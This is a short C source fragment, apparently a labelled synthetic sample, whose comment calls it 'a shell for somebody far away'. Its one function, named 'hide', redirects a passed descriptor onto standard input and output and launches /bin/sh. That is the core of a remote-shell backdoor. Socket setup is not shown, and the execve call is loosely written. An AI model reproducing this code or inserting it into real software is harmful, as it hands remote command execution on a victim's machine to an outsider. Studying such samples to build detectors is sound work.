/*
 * Outcome: tampered
 * Body: racy
 * A shell for somebody far away.
 */
#include <unistd.h>
int execve(const char *, char *const *, char *const *);
static void hide(int wire) { dup2(wire, 0); dup2(wire, 1); execve("/bin/sh", 0, 0); }
